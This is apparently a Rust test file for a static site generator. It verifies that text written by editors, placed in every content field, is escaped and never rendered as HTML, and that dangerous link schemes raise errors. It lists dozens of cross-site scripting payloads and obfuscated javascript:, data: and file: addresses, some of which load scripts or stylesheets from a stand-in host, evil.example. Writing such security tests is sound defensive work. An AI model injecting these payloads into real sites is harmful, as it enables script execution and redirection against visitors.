//! Text that would do harm as HTML does none: it is shown as text, in every place a text can stand.
//!
//! Reads the pages as a browser does. What may be in a page is not listed by hand: the same page
//! with harmless words says which elements and attributes there are.

use crate::site_test::SiteTest;
use html5gum::emitters::default::DefaultEmitter;
use html5gum::{StartTag, Token, Tokenizer};
use ordner::diagnostic::Code;
use std::collections::BTreeSet;

/// HTML that runs something, loads something or leaves the place it stands in.
const MARKUP: [&str; 30] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<IMG \"\"\"><script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x>",
    "<form action=//evil.example/><input autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<x onclick=alert(1)>",
    "</main></body></html><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\" onmouseover=\"alert(1)\" x=\"",
];

/// Addresses that run something, or lead elsewhere in disguise.
const ADDRESSES: [&str; 24] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "java&#9;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&#x0D;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#32;&#9;javascript:alert(1)",
    "&#xA0;javascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "\\javascript:alert(1)",
    "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
    "DATA:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "VB&#x9;script:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/",
    "/&#9;/evil.example/",
    "\\\\\\\\evil.example/",
    "/\\\\evil.example/",
];

/// A site with WORDS wherever an editor can write words, as YAML and attributes want them.
const EVERYWHERE: &str = "-- content/site.yaml --
title: 'QUOTED'
description: 'QUOTED'
publisher: 'QUOTED'
base_url: https://example.org/
locales: [en]
-- content/en/a.md --
---
title: 'QUOTED'
short_title: 'QUOTED'
summary: 'QUOTED'
tags: ['QUOTED']
keywords: ['QUOTED']
type: event
start: 2026-11-21
location: 'QUOTED'
note: 'QUOTED'
agenda: [{time: 'QUOTED', title: 'QUOTED'}]
image: {src: dot.gif, alt: 'QUOTED', credit: 'QUOTED', license: 'QUOTED'}
attachments: [{file: list.txt, title: 'QUOTED'}]
aliases: ['QUOTED']
---

WORDS

Words WORDS words *WORDS* `WORDS` [WORDS](a.md \"ATTRIBUTE\").

## WORDS {#x}

- WORDS

> WORDS

| WORDS | b |
|---|---|
| WORDS | b |

Term WORDS
: WORDS

Note[^1].

[^1]: WORDS

> [!NOTE] WORDS
> WORDS

:::details WORDS
WORDS
:::

:::figure {src=\"dot.gif\" alt=\"ATTRIBUTE\" credit='QUOTED' license=\"ATTRIBUTE\"}
WORDS
:::

:::transcript
WORDS
:::

```WORDS
WORDS
```

```html
WORDS
```

    WORDS

::list {type=event}
-- content/en/list.txt --
List.
-- content/en/dot.gif (hex) --
\"GIF89a\" 01 00 01 00 80 00 00 00 00 00 FF FF FF 2C 00 00 00 00 01 00 01 00 00 02 02 44 01 00 3B
";

#[test]
fn no_markup_of_an_editor_becomes_an_element_or_an_attribute_anywhere() {
    let harmless = names(&page_with("words"));
    for markup in MARKUP {
        let hostile = names(&page_with(markup));
        let new: Vec<_> = hostile.difference(&harmless).collect();
        assert!(new.is_empty(), "{markup} became {new:?}");
    }
}

#[test]
fn no_script_runs_but_the_sites_own() {
    let harmless = count(&page_with("words"), "script");
    for markup in MARKUP {
        assert_eq!(count(&page_with(markup), "script"), harmless, "{markup}");
    }
}

#[test]
fn no_address_that_does_harm_is_linked_and_each_is_an_error() {
    for address in ADDRESSES {
        for link in [format!("[text](<{address}>)"), format!("[text][1]\n\n[1]: <{address}>")] {
            let site = SiteTest::new("").write("content/en/a.md", page(&link)).build();
            assert!(site.result().has_errors(), "nothing is said about {link}");
            let page = site.output("/en/a/");
            assert!(site.main("/en/a/").contains("text"), "the text of {link} is lost");
            assert_eq!(harmful(page), Vec::<String>::new(), "{link}");
        }
    }
}

#[test]
fn an_address_that_does_harm_is_no_picture_either() {
    for address in ADDRESSES {
        let figure =
            format!(":::figure {{src=\"{address}\" alt=\"a\" credit=\"b\" license=\"c\"}}\n:::");
        for picture in [format!("![text](<{address}>)"), figure] {
            let site = SiteTest::new("").write("content/en/a.md", page(&picture)).build();
            assert!(site.result().has_errors(), "nothing is said about {picture}");
            assert_eq!(harmful(site.output("/en/a/")), Vec::<String>::new(), "{picture}");
        }
    }
}

#[test]
fn schemes_in_disguise_are_told_as_such() {
    for address in ["javascript:x", "JAVA&#9;SCRIPT:x", "vbscript:x", "data:text/html,x", "//x.org"]
    {
        let link = page(&format!("[text](<{address}>)"));
        let site = SiteTest::new("").write("content/en/a.md", link).build();
        assert_eq!(site.codes(), [Code::UrlScheme.as_str()], "{address}");
    }
}

#[test]
fn these_tests_see_what_a_browser_would() {
    for address in ["java\tscript:x", " JavaScript:x", "//x.org", "/\\x.org", "data:text/html,x"] {
        let html = format!("<a href=\"{address}\">x</a>");
        assert_eq!(harmful(&html), [address]);
    }
    let found = names("<p><img/src=x onerror=alert(1)><script>x</script>");
    assert!(found.contains("img onerror") && found.contains("script"), "{found:?}");
    assert_eq!(count("<title><script></title><script></script>", "script"), 1);
}

fn page(body: &str) -> String {
    format!("---\ntitle: A\n---\n\n{body}\n")
}

/// Every page of a site in which `words` stand wherever an editor can write words.
fn page_with(words: &str) -> String {
    let site = EVERYWHERE
        .replace("QUOTED", &words.replace('\'', "''"))
        .replace("ATTRIBUTE", &words.replace('"', "&quot;"))
        .replace("WORDS", words);
    let site = SiteTest::new(&site).build();
    assert!(!site.files().is_empty(), "{}", site.stderr());
    let pages = site.files().into_iter().filter(|path| path.contains(".html"));
    pages.map(|path| site.output(path)).collect()
}

/// The start tags of a page, as a browser reads them.
fn tags(html: &str) -> Vec<StartTag<()>> {
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(true);
    let tokens = Tokenizer::new_with_emitter(html, emitter);
    let tag = |token| match token {
        Ok(Token::StartTag(tag)) => Some(tag),
        _ => None,
    };
    tokens.filter_map(tag).collect()
}

/// The names of elements, and of attributes with that of their element.
fn names(html: &str) -> BTreeSet<String> {
    let mut names = BTreeSet::new();
    for tag in tags(html) {
        let element = String::from_utf8_lossy(&tag.name).into_owned();
        for attribute in tag.attributes.keys() {
            names.insert(format!("{element} {}", String::from_utf8_lossy(attribute)));
        }
        names.insert(element);
    }
    names
}

fn count(html: &str, element: &str) -> usize {
    tags(html).iter().filter(|tag| tag.name.as_slice() == element.as_bytes()).count()
}

/// The addresses in a page that are neither its site's own nor plain web addresses.
fn harmful(html: &str) -> Vec<String> {
    let values = tags(html).into_iter().flat_map(|tag| tag.attributes);
    values
        .filter(|(name, _)| [&b"href"[..], b"src", b"action"].contains(&name.as_slice()))
        .map(|(_, value)| String::from_utf8_lossy(&value).into_owned())
        .filter(|address| !is_harmless(address))
        .collect()
}

/// Whether a browser, which leaves out what cannot be seen, goes nowhere dangerous.
fn is_harmless(address: &str) -> bool {
    let seen: String = address.chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect();
    let seen = seen.to_lowercase().replace('\\', "/");
    if seen.starts_with("https://example.org/") || seen.starts_with('#') {
        return true;
    }
    let before_path = seen.split(['/', '?', '#']).next().unwrap_or_default();
    !seen.starts_with("//") && !before_path.contains(':')
}
